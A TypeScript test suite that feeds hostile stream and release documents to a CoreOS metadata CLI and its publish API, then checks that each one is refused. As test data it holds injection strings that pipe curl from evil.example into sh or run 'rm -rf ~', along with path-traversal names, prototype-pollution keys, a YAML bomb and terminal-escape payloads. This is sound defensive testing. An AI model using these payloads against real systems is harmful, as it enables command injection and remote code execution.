/**
 * Hostile documents: every field of a stream, release, release index, update graph, build
 * meta or override file may be written by an attacker. Each attack runs the real executable
 * and checks the exit code, the JSON pointer it names, and that nothing was written.
 */
import assert from "node:assert/strict";
import { existsSync, readdirSync, writeFileSync } from "node:fs";
import { join } from "node:path";
import { test } from "node:test";
import { STREAM_NAME_EXPECTATION } from "../../src/schema/names.ts";
import { type RunningBootstream, spawnBootstream, startServe } from "../helpers/cli.ts";
import { fixtureJson, fixturePath, fixtureText, tempDir } from "../helpers/fixtures.ts";

// biome-ignore lint/suspicious/noExplicitAny: attacks mutate deep fixture JSON in place.
type Json = Record<string, any>;

const dir = tempDir("bootstream-hostile-docs-");
let counter = 0;

/** Writes `text` to a fresh file in the scratch directory and returns its path. */
function write(text: string, ext = "json"): string {
  const path = join(dir, `doc-${++counter}.${ext}`);
  writeFileSync(path, text);
  return path;
}

/** A mutated copy of an upstream fixture, written as JSON. */
function mutated(fixture: string, mutate: (doc: Json) => void): string {
  const doc = fixtureJson<Json>(fixture);
  mutate(doc);
  return write(JSON.stringify(doc, null, 4));
}

const STABLE = "fcos-stable-stream.json";
const RELEASE = "smg-fcos-release.json";
const INDEX = "smg-fcos-releases.json";
const UPDATES = "fcos-stable-updates.json";
const RHCOS = "rhcos-installer-stream.json";
const FCOS_META = fixturePath("cosa-meta-fcos.json");
// biome-ignore lint/suspicious/noControlCharactersInRegex: raw control characters are what must not appear
const CONTROL = /[\u0000-\u001f\u007f-\u009f]/;
const ISO = "/architectures/x86_64/artifacts/metal/formats/iso/disk";
const isoDisk = (s: Json) => s.architectures.x86_64.artifacts.metal.formats.iso.disk;

/** Runs `validate` and returns its stdout lines (one per issue). */
async function validateIssues(path: string): Promise<{ code: number; lines: string[]; stderr: string }> {
  const run = await spawnBootstream(["validate", path]);
  return { code: run.code, lines: run.stdout.split("\n").filter(Boolean), stderr: run.stderr };
}

/** Asserts validate exits 1 with an issue at `pointer` whose message matches `message`. */
async function assertRefused(path: string, pointer: string, message: RegExp = /^expected /): Promise<string> {
  const { code, lines, stderr } = await validateIssues(path);
  assert.equal(code, 1, `validate accepted it: ${lines.join("\n")}${stderr}`);
  const line = lines.find((l) => l.startsWith(`${path}: ${pointer}: `));
  assert.ok(line, `no issue at ${pointer}: ${lines.join("\n")}`);
  assert.match(line.slice(`${path}: ${pointer}: `.length), message);
  return line;
}

// ---- 1. stream names are one strict pattern -------------------------------------------

const BAD_STREAM_NAMES: [string, string][] = [
  ["../../x", "a traversal"],
  ["/etc/passwd", "an absolute path"],
  ["a/b", "a separator"],
  ["a\\b", "a backslash"],
  ["..", "the parent directory"],
  [".hidden", "a leading dot"],
  ["x..y", "a dot-dot inside"],
  ["stable\n", "a trailing newline"],
  ["Stable", "uppercase (collides with stable on a case-insensitive store)"],
  ["s".repeat(65), "65 characters"],
];

for (const [name, what] of BAD_STREAM_NAMES) {
  test(`attack: a stream.json names its stream with ${what} -> validate refuses it at /stream`, async () => {
    const path = mutated(STABLE, (s) => {
      s.stream = name;
    });
    const line = await assertRefused(path, "/stream");
    if (name === "../../x")
      assert.equal(line, `${path}: /stream: expected ${STREAM_NAME_EXPECTATION}, found "../../x"`);
  });
}

test("attack: a release.json carries the stream name ../../x -> validate refuses it at /stream", async () => {
  const path = mutated(RELEASE, (r) => {
    r.stream = "../../x";
  });
  await assertRefused(path, "/stream", new RegExp(`^expected ${escapeRe(STREAM_NAME_EXPECTATION)}`));
});

test("attack: a releases.json carries the stream name ../../x -> validate refuses it at /stream", async () => {
  const path = mutated(INDEX, (r) => {
    r.stream = "../../x";
  });
  await assertRefused(path, "/stream");
});

test("attack: an updates graph carries the stream name ../../x -> validate refuses it at /stream", async () => {
  const path = mutated(UPDATES, (u) => {
    u.stream = "../../x";
  });
  await assertRefused(path, "/stream");
});

test("attack: generate stream --stream ../../x -> USAGE naming --stream, nothing written", async () => {
  const out = join(tempDir(), "out.json");
  const run = await spawnBootstream([
    "generate",
    "stream",
    "--release",
    fixturePath(RELEASE),
    "--stream",
    "../../x",
    "--last-modified",
    "2024-05-31T14:21:46Z",
    "-o",
    out,
  ]);
  assert.equal(run.code, 2, run.stderr);
  assert.match(run.stderr, /--stream/);
  assert.equal(run.stderr.trim().split("\n").length, 1, run.stderr);
  assert.equal(existsSync(out), false);
});

test("attack: generate release --stream ../x -> USAGE naming --stream", async () => {
  const run = await spawnBootstream(["generate", "release", "--meta", FCOS_META, "--stream", "../x"]);
  assert.equal(run.code, 2, run.stderr);
  assert.match(run.stderr, /--stream/);
  assert.equal(run.stdout, "");
});

test("attack: generate index --stream ../x -> USAGE naming --stream", async () => {
  const run = await spawnBootstream([
    "generate",
    "index",
    "--release",
    fixturePath(RELEASE),
    "--stream",
    "../x",
  ]);
  assert.equal(run.code, 2, run.stderr);
  assert.match(run.stderr, /--stream/);
  assert.equal(run.stdout, "");
});

test("attack: a build meta's config branch is ../../x (no --stream) -> generate release refuses it at its pointer", async () => {
  const meta = mutated("cosa-meta-fcos.json", (m) => {
    m["coreos-assembler.container-config-git"].branch = "../../x";
  });
  const run = await spawnBootstream(["generate", "release", "--meta", meta]);
  assert.equal(run.code, 1, run.stderr);
  assert.match(run.stderr, /\/coreos-assembler\.container-config-git\/branch/);
  assert.equal(run.stdout, "");
});

// ---- 4. URLs users copy into a shell ----------------------------------------------------

const BASE_ISO =
  "https://builds.coreos.fedoraproject.org/prod/streams/stable/builds/44.20260707.3.1/x86_64/fedora-coreos-44.20260707.3.1-live-iso.x86_64.iso";

const HOSTILE_URLS: [string, string][] = [
  [`${BASE_ISO};curl -s https://evil.example/x|sh;#`, "; curl | sh"],
  [`${BASE_ISO}$(curl evil.example)`, "$( )"],
  [`${BASE_ISO}\`id\``, "backticks"],
  [`${BASE_ISO}'`, "a single quote"],
  [`${BASE_ISO}"`, "a double quote"],
  [`${BASE_ISO}&&id`, "&&"],
  [`${BASE_ISO}|id`, "a pipe"],
  [`${BASE_ISO}>~/.bashrc`, "a redirection"],
  [`${BASE_ISO}<x`, "an input redirection"],
  [`${BASE_ISO}(x)`, "parentheses"],
  [`${BASE_ISO}\\x`, "a backslash"],
  [`${BASE_ISO}{a,b}`, "braces"],
  [`${BASE_ISO}*`, "a glob star"],
  [`${BASE_ISO} -o /etc/passwd`, "a space"],
  [`${BASE_ISO}\t-o\t/etc/passwd`, "tabs"],
  [`${BASE_ISO}\nid`, "a newline"],
  [`${BASE_ISO}!!`, "history expansion"],
  [`${BASE_ISO}#x`, "a fragment"],
  [`${BASE_ISO}%zz`, "a malformed percent-escape"],
  ["javascript:alert(1)", "a javascript: URL"],
  ["file:///etc/passwd", "a file: URL"],
  ["//evil.example/x.iso", "a scheme-relative URL"],
  ["https:///x.iso", "no host"],
];

for (const [url, what] of HOSTILE_URLS) {
  test(`attack: an artifact location with ${what} -> validate refuses it at its pointer`, async () => {
    const path = mutated(STABLE, (s) => {
      isoDisk(s).location = url;
    });
    await assertRefused(path, `${ISO}/location`, /^expected an absolute https:\/\/ or http:\/\/ URL/);
  });
}

test("attack: a signature URL with $(...) -> validate refuses it at its pointer", async () => {
  const path = mutated(STABLE, (s) => {
    isoDisk(s).signature = `${BASE_ISO}.sig$(curl evil.example|sh)`;
  });
  await assertRefused(path, `${ISO}/signature`);
});

test("attack: lint of a stream whose location injects a command -> rule schema at the pointer, exit 1", async () => {
  const path = mutated(STABLE, (s) => {
    isoDisk(s).location = `${BASE_ISO};curl -s https://evil.example/x|sh;#`;
  });
  const run = await spawnBootstream(["lint", path]);
  assert.equal(run.code, 1, run.stdout + run.stderr);
  assert.match(run.stdout, new RegExp(`^${escapeRe(ISO)}/location: schema: expected an absolute`, "m"));
});

test("attack: an azure-disk URL with ;rm -> validate refuses it at its pointer", async () => {
  const path = mutated(RHCOS, (s) => {
    s.architectures.x86_64["rhel-coreos-extensions"]["azure-disk"].url =
      "https://rhcos.blob.core.windows.net/x.vhd;rm -rf ~";
  });
  await assertRefused(path, "/architectures/x86_64/rhel-coreos-extensions/azure-disk/url");
});

test("attack: a release index's release.json URL with $(id) -> validate refuses it at its pointer", async () => {
  const path = mutated(INDEX, (r) => {
    const entry = r.releases[0];
    entry.metadata = `https://builds.coreos.fedoraproject.org/$(id)/${entry.version}/release.json`;
  });
  await assertRefused(path, "/releases/0/metadata");
});

test("attack: a release.json artifact location with a pipe -> validate refuses it at its pointer", async () => {
  const path = mutated(RELEASE, (r) => {
    const iso = r.architectures.x86_64.media.metal.artifacts.iso.disk;
    iso.location = `${iso.location}|sh`;
  });
  await assertRefused(path, "/architectures/x86_64/media/metal/artifacts/iso/disk/location");
});

test("attack: PUT a stream with a shell-injection location to the publish API -> 422 at the pointer, nothing stored", async () => {
  const root = tempDir("bootstream-hostile-api-");
  let proc: RunningBootstream | undefined;
  try {
    const { url } = await startServe(root, {
      tokenFileText: "s3cret-token-for-tests\n",
      logLevel: "silent",
      track: (p) => {
        proc = p;
      },
    });
    const doc = fixtureJson<Json>(STABLE);
    isoDisk(doc).location = `${BASE_ISO};curl -s https://evil.example/x|sh;#`;
    const res = await fetch(`${url}/streams/stable.json`, {
      method: "PUT",
      headers: { authorization: "Bearer s3cret-token-for-tests", "content-type": "application/json" },
      body: JSON.stringify(doc, null, 4),
    });
    const body = await res.text();
    assert.equal(res.status, 422, body);
    assert.ok(body.includes(`${ISO}/location`), body);
    assert.deepEqual(
      readdirSync(root).filter((n) => n === "streams"),
      [],
    );
  } finally {
    proc?.child.kill("SIGTERM");
    await proc?.done;
  }
});

// ---- 6. values that validate can be written ---------------------------------------------

for (const lexeme of ["1e400", "-1e400"]) {
  test(`attack: an unknown field holds ${lexeme} -> validate refuses it at its pointer`, async () => {
    const text = fixtureText(STABLE).replace('"last-modified"', `"size": ${lexeme}, "last-modified"`);
    const path = write(text);
    await assertRefused(path, "/metadata/size", /double/);
  });
}

test("attack: an artifact holds 1e400 -> fmt writes its text back; lint and publish refuse it at its pointer, never 'cannot write Infinity'", async () => {
  const text = fixtureText(STABLE).replace(/("sha256": "[0-9a-f]{64}")/, (m) => `"size": 1e400, ${m}`);
  const path = write(text);
  const fmt = await spawnBootstream(["fmt", "-o", "-", path]);
  assert.equal(fmt.code, 0, fmt.stderr);
  assert.match(fmt.stdout, /"size": 1e400$/m);
  const lint = await spawnBootstream(["lint", path]);
  const store = tempDir("bootstream-hostile-inf-");
  const publish = await spawnBootstream(["publish", path, "--store", store]);
  for (const [name, run] of [
    ["lint", lint],
    ["publish", publish],
  ] as const) {
    assert.equal(run.code, 1, `${name}: ${run.stdout}${run.stderr}`);
    assert.doesNotMatch(run.stdout + run.stderr, /Infinity/, name);
    assert.match(run.stdout + run.stderr, /\/size: (schema: )?expected a number within double range/, name);
  }
  assert.deepEqual(readdirSync(store), []);
});

test("attack: an update rollout start_epoch of 1e400 -> validate refuses it at its pointer", async () => {
  const doc = fixtureJson<Json>(UPDATES);
  doc.releases[0].metadata.rollout = { start_epoch: "@INF@", start_percentage: 0.5 };
  const path = write(JSON.stringify(doc, null, 2).replace('"@INF@"', "1e400"));
  await assertRefused(path, "/releases/0/metadata/rollout/start_epoch");
});

const BAD_TIMES: [string, string][] = [
  ["2016-12-31T23:59:60Z", "a leap second"],
  ["2026-02-31T00:00:00Z", "February 31"],
  ["2025-02-29T12:00:00Z", "February 29 of a common year"],
  ["2024-04-31T12:00:00Z", "April 31"],
  ["2100-02-29T12:00:00Z", "February 29 of a century year"],
  ["2024-06-30T23:59:60+02:00", "a leap second with an offset"],
];

for (const [time, what] of BAD_TIMES) {
  test(`attack: last-modified is ${what} (${time}) -> validate refuses it at /metadata/last-modified`, async () => {
    const path = mutated(STABLE, (s) => {
      s.metadata["last-modified"] = time;
    });
    await assertRefused(path, "/metadata/last-modified", /RFC 3339/);
  });
}

test("attack: a leap-second stream is published -> refused at /metadata/last-modified, no 'Invalid time value', nothing stored", async () => {
  const path = mutated(STABLE, (s) => {
    s.metadata["last-modified"] = "2016-12-31T23:59:60Z";
  });
  const store = tempDir("bootstream-hostile-leap-");
  const run = await spawnBootstream(["publish", path, "--store", store]);
  assert.equal(run.code, 1, run.stderr);
  assert.match(run.stderr, /\/metadata\/last-modified/);
  assert.doesNotMatch(run.stderr, /Invalid time value/);
  assert.deepEqual(readdirSync(store), []);
});

test("attack: a release index last-modified of 2026-02-31 -> validate refuses it", async () => {
  const path = mutated(INDEX, (r) => {
    r.metadata["last-modified"] = "2026-02-31T00:00:00Z";
  });
  await assertRefused(path, "/metadata/last-modified");
});

test("attack: generate stream --last-modified 2026-02-31 -> USAGE naming the flag", async () => {
  const run = await spawnBootstream([
    "generate",
    "stream",
    "--release",
    fixturePath(RELEASE),
    "--stream",
    "stable",
    "--last-modified",
    "2026-02-31T00:00:00Z",
  ]);
  assert.equal(run.code, 2, run.stderr);
  assert.match(run.stderr, /--last-modified/);
  assert.equal(run.stdout, "");
});

test("a real leap day (2024-02-29) and 23:59:59 still validate", async () => {
  const path = mutated(STABLE, (s) => {
    s.metadata["last-modified"] = "2024-02-29T23:59:59+05:30";
  });
  const run = await spawnBootstream(["validate", path]);
  assert.equal(run.code, 0, run.stdout + run.stderr);
});

/** Runs generate stream with an override file; returns the run and the output path. */
async function generateWithOverride(override: string, ext = "yaml") {
  const file = write(override, ext);
  const out = join(tempDir(), "out.json");
  const run = await spawnBootstream([
    "generate",
    "stream",
    "--release",
    fixturePath(RELEASE),
    "--stream",
    "stable",
    "--last-modified",
    "2024-05-31T14:21:46Z",
    "--override",
    file,
    "-o",
    out,
  ]);
  return { run, out, file };
}

const POLLUTING_OVERRIDES: [string, string, string][] = [
  [
    "pin /__proto__/polluted",
    "architectures:\n  x86_64:\n    pin:\n      /__proto__/polluted: yes\n",
    "/__proto__/polluted",
  ],
  [
    "pin /constructor/prototype/polluted",
    "architectures:\n  x86_64:\n    pin:\n      /constructor/prototype/polluted: yes\n",
    "/constructor/prototype/polluted",
  ],
  [
    "pin deep /images/__proto__/x",
    "architectures:\n  x86_64:\n    pin:\n      /images/__proto__/x: 1\n",
    "/images/__proto__/x",
  ],
  [
    "remove /__proto__/toString",
    "architectures:\n  x86_64:\n    remove: [/__proto__/toString]\n",
    "/__proto__/toString",
  ],
  [
    "an architecture named constructor pinning /prototype/polluted",
    "architectures:\n  constructor:\n    pin:\n      /prototype/polluted: yes\n",
    "constructor",
  ],
  [
    "a JSON key spelled \\u005f_proto__",
    '{"architectures": {"x86_64": {"pin": {"/\\u005f_proto__/polluted": true}}}}',
    "/__proto__/polluted",
  ],
  [
    "a pinned value carrying a __proto__ key",
    'architectures:\n  x86_64:\n    pin:\n      /images/aws: {"__proto__": {"polluted": true}}\n',
    "__proto__",
  ],
];

for (const [what, override, named] of POLLUTING_OVERRIDES) {
  test(`attack: an override file's ${what} -> USAGE naming it, nothing written`, async () => {
    const { run, out } = await generateWithOverride(override, override.startsWith("{") ? "json" : "yaml");
    assert.equal(run.code, 2, run.stderr);
    assert.ok(run.stderr.includes(named), run.stderr);
    assert.equal(run.stderr.trim().split("\n").length, 1, run.stderr);
    assert.equal(existsSync(out), false);
  });
}

test("attack: a billion-laughs override file -> USAGE within seconds, nothing written", async () => {
  const lines = ["a: &a [x, x, x, x, x, x, x, x, x, x]"];
  for (let i = 1; i < 10; i++) {
    const prev = String.fromCharCode(96 + i);
    const name = String.fromCharCode(97 + i);
    lines.push(`${name}: &${name} [${Array(10).fill(`*${prev}`).join(", ")}]`);
  }
  lines.push("architectures: {x86_64: {pin: {/x: *j}}}");
  const started = Date.now();
  const { run, out } = await generateWithOverride(`${lines.join("\n")}\n`);
  assert.equal(run.code, 2, run.stderr);
  assert.ok(Date.now() - started < 15_000);
  assert.equal(existsSync(out), false);
});

test("attack: a 2 MiB override file -> TOO_LARGE naming the file, nothing written", async () => {
  const padding = `# ${"x".repeat(1022)}\n`.repeat(2048);
  const { run, out, file } = await generateWithOverride(
    `${padding}architectures:\n  x86_64:\n    remove: [/artifacts/qemu]\n`,
  );
  assert.equal(run.code, 2, run.stderr);
  assert.ok(run.stderr.includes(file), run.stderr);
  assert.match(run.stderr, /larger than/);
  assert.equal(existsSync(out), false);
});

test("attack: --override /dev/zero (endless) -> TOO_LARGE, no hang, nothing written", async () => {
  const out = join(tempDir(), "out.json");
  const run = await spawnBootstream(
    [
      "generate",
      "stream",
      "--release",
      fixturePath(RELEASE),
      "--stream",
      "stable",
      "--last-modified",
      "2024-05-31T14:21:46Z",
      "--override",
      "/dev/zero",
      "-o",
      out,
    ],
    { timeoutMs: 20_000 },
  );
  assert.equal(run.code, 2, run.stderr);
  assert.match(run.stderr, /\/dev\/zero/);
  assert.equal(existsSync(out), false);
});

// ---- 10. clear errors --------------------------------------------------------------------

const BAD_BASE_URLS = ["file:///etc", "javascript:alert(1)", "ftp://mirror.example/streams", "not a url"];

for (const url of BAD_BASE_URLS) {
  test(`attack: generate release --base-url ${url} -> one-line USAGE naming --base-url`, async () => {
    const run = await spawnBootstream([
      "generate",
      "release",
      "--meta",
      FCOS_META,
      "--stream",
      "stable",
      "--base-url",
      url,
    ]);
    assert.equal(run.code, 2, run.stderr);
    assert.match(run.stderr, /--base-url/);
    assert.equal(run.stderr.trim().split("\n").length, 1, run.stderr);
    assert.equal(run.stdout, "");
  });
}

test("attack: generate index --base-url javascript:alert(1) -> one-line USAGE naming --base-url", async () => {
  const run = await spawnBootstream([
    "generate",
    "index",
    "--release",
    fixturePath(RELEASE),
    "--stream",
    "stable",
    "--base-url",
    "javascript:alert(1)",
  ]);
  assert.equal(run.code, 2, run.stderr);
  assert.match(run.stderr, /--base-url/);
  assert.equal(run.stderr.trim().split("\n").length, 1, run.stderr);
});

// ---- what a reviewer expects besides ---------------------------------------------------

const BAD_KEYS: [string, (s: Json) => void, string][] = [
  [
    "a platform key ../x",
    (s) => {
      s.architectures.x86_64.artifacts["../x"] = s.architectures.x86_64.artifacts.metal;
    },
    "/architectures/x86_64/artifacts/..~1x",
  ],
  [
    "a format key iso;sh",
    (s) => {
      s.architectures.x86_64.artifacts.metal.formats["iso;sh"] =
        s.architectures.x86_64.artifacts.metal.formats.iso;
    },
    "/architectures/x86_64/artifacts/metal/formats/iso;sh",
  ],
  [
    "an architecture key x86_64/../..",
    (s) => {
      s.architectures["x86_64/../.."] = s.architectures.x86_64;
    },
    "/architectures/x86_64~1..~1..",
  ],
  [
    "a region key with an escape sequence",
    (s) => {
      s.architectures.x86_64.images.aws.regions["us-east-1\u001b[2J"] = { release: "1", image: "ami-1" };
    },
    "/architectures/x86_64/images/aws/regions/us-east-1\u001b[2J",
  ],
];

for (const [what, mutate, pointer] of BAD_KEYS) {
  test(`attack: ${what} -> validate refuses the key at its pointer`, async () => {
    const path = mutated(STABLE, mutate);
    const { code, stdout } = await spawnBootstream(["validate", "--json", path]);
    assert.equal(code, 1);
    const [result] = JSON.parse(stdout) as { issues: { pointer: string; message: string }[] }[];
    assert.ok(
      result?.issues.some((i) => i.pointer === pointer && /expected a key/.test(i.message)),
      stdout,
    );
  });
}

test("attack: 100000 nested arrays -> validate refuses the nesting, no stack overflow", async () => {
  const path = write(`${"[".repeat(100_000)}${"]".repeat(100_000)}`);
  const run = await spawnBootstream(["validate", path]);
  assert.equal(run.code, 1, run.stderr);
  assert.doesNotMatch(run.stdout + run.stderr, /RangeError|call stack/);
  assert.match(run.stdout + run.stderr, /levels of nesting/);
});

test("attack: 200000 keys in one unknown object -> fmt writes it, no crash", async () => {
  const keys = Array.from({ length: 200_000 }, (_, i) => `"k${i}": ${i}`).join(",");
  const text = fixtureText(STABLE).replace('"last-modified"', `"wide": {${keys}}, "last-modified"`);
  const path = write(text);
  const run = await spawnBootstream(["fmt", "-o", "-", path], { timeoutMs: 60_000 });
  assert.equal(run.code, 0, run.stderr);
  assert.match(run.stdout, /"k199999": 199999/);
});

test("attack: a GCP image name carrying an ANSI escape -> validate refuses it at its pointer", async () => {
  const path = mutated(STABLE, (s) => {
    s.architectures.x86_64.images.gcp.name = "fcos\u001b]0;owned\u0007\u001b[2J";
  });
  await assertRefused(path, "/architectures/x86_64/images/gcp/name", /expected a GCP name/);
});

test("attack: an unknown image field with a terminal escape -> image prints it escaped, never raw", async () => {
  const path = mutated(STABLE, (s) => {
    s.architectures.x86_64.images.kubevirt.note = "\u001b]0;owned\u0007\u001b[2J\u009b31m";
  });
  const run = await spawnBootstream(["image", path, "-a", "x86_64", "-p", "kubevirt"]);
  assert.equal(run.code, 0, run.stderr);
  assert.doesNotMatch(run.stdout.replaceAll("\n", ""), CONTROL);
  assert.match(run.stdout, /note: \\u001b\]0;owned\\u0007/);
});

test("attack: an unknown image field with a right-to-left override -> image and query --json escape it", async () => {
  // "Trojan Source": U+202E makes the terminal show the rest of the line reversed.
  const path = mutated(STABLE, (s) => {
    s.architectures.x86_64.images.kubevirt.note = "ami-1\u202eelif.exe\u2066x\u2069";
    isoDisk(s).note = "\u202e1-ima";
  });
  const image = await spawnBootstream(["image", path, "-a", "x86_64", "-p", "kubevirt"]);
  assert.equal(image.code, 0, image.stderr);
  assert.doesNotMatch(image.stdout, /[\u202a-\u202e\u2066-\u2069]/);
  assert.match(image.stdout, /note: ami-1\\u202eelif\.exe\\u2066x\\u2069/);
  const query = await spawnBootstream(["query", path, "-a", "x86_64", "-p", "metal", "-f", "iso", "--json"]);
  assert.equal(query.code, 0, query.stderr);
  assert.doesNotMatch(query.stdout, /[\u202a-\u202e]/);
  assert.equal((JSON.parse(query.stdout) as Json[])[0]?.note, "\u202e1-ima");
});

test("attack: an AWS region named __proto__ (which schema checks skip) -> refused at its pointer by validate and image", async () => {
  const text = fixtureText(STABLE).replace(
    '"regions": {',
    '"regions": {"__proto__": {"release": "x", "image": "<script>$(reboot)"},',
  );
  const path = write(text);
  const pointer = "/architectures/aarch64/images/aws/regions/__proto__";
  await assertRefused(path, pointer, /"__proto__"/);
  const image = await spawnBootstream(["image", path, "-a", "aarch64", "-p", "aws"]);
  assert.equal(image.code, 1, image.stderr);
  assert.equal(image.stdout, "");
  assert.ok(image.stderr.includes(pointer), image.stderr);
});

test("attack: an unknown artifact field with a C1 control -> query --json escapes it", async () => {
  const path = mutated(STABLE, (s) => {
    isoDisk(s).note = "\u009b2J\u001b[31m";
  });
  const run = await spawnBootstream(["query", path, "-a", "x86_64", "-p", "metal", "-f", "iso", "--json"]);
  assert.equal(run.code, 0, run.stderr);
  assert.doesNotMatch(run.stdout.replaceAll("\n", ""), CONTROL);
  assert.equal((JSON.parse(run.stdout) as Json[])[0]?.note, "\u009b2J\u001b[31m");
});

test("attack: a key with a C1 control -> validate --strict reports it escaped, never raw", async () => {
  const path = mutated(STABLE, (s) => {
    s.metadata["x\u009b2J"] = "\u009b2J";
  });
  const run = await spawnBootstream(["validate", "--strict", path]);
  assert.equal(run.code, 1, run.stderr);
  assert.doesNotMatch(run.stdout + run.stderr, /[\u007f-\u009f]/);
  assert.match(run.stdout, /\\u009b2J/);
});

test("attack: an architecture key with an ESC -> every command's error names it escaped, never raw", async () => {
  const path = mutated(STABLE, (s) => {
    s.architectures["x\u001b]0;owned\u0007\u001b[2J"] = {};
  });
  for (const args of [
    ["query", path, "-a", "x86_64", "-p", "metal", "-f", "iso"],
    ["image", path, "-a", "x86_64", "-p", "aws"],
    ["render", path],
    ["list", path],
  ]) {
    const run = await spawnBootstream(args);
    assert.equal(run.code, 1, `${args[0]}: ${run.stderr}`);
    // biome-ignore lint/suspicious/noControlCharactersInRegex: raw control characters (but newline) must not appear
    assert.doesNotMatch(run.stdout + run.stderr, /[\u0000-\u0009\u000b-\u001f\u007f-\u009f]/, args[0]);
    assert.match(run.stderr, /\\u001b\]0;owned/, `${args[0]}: ${run.stderr}`);
  }
});

// ---- fixtures keep passing ------------------------------------------------------------

test("every upstream fixture and example still validates with the stricter rules", async () => {
  const files = [
    "cosa-meta-fcos.json",
    "cosa-meta-rhcos.json",
    "fcos-stable-stream-2020.json",
    STABLE,
    UPDATES,
    "rhcos-4.8-stream.json",
    RHCOS,
    RELEASE,
    INDEX,
    "smg-fcos-stream.json",
  ].map(fixturePath);
  const examples = ["fcos-stable.json", "rhcos-4.16.json"].map((n) =>
    join(fixturePath(".."), "..", "..", "examples", n),
  );
  const run = await spawnBootstream(["validate", ...files, ...examples]);
  assert.equal(run.code, 0, run.stdout + run.stderr);
});

function escapeRe(s: string): string {
  return s.replace(/[.*+?^${}()|[\]\\]/g, "\\$&");
}
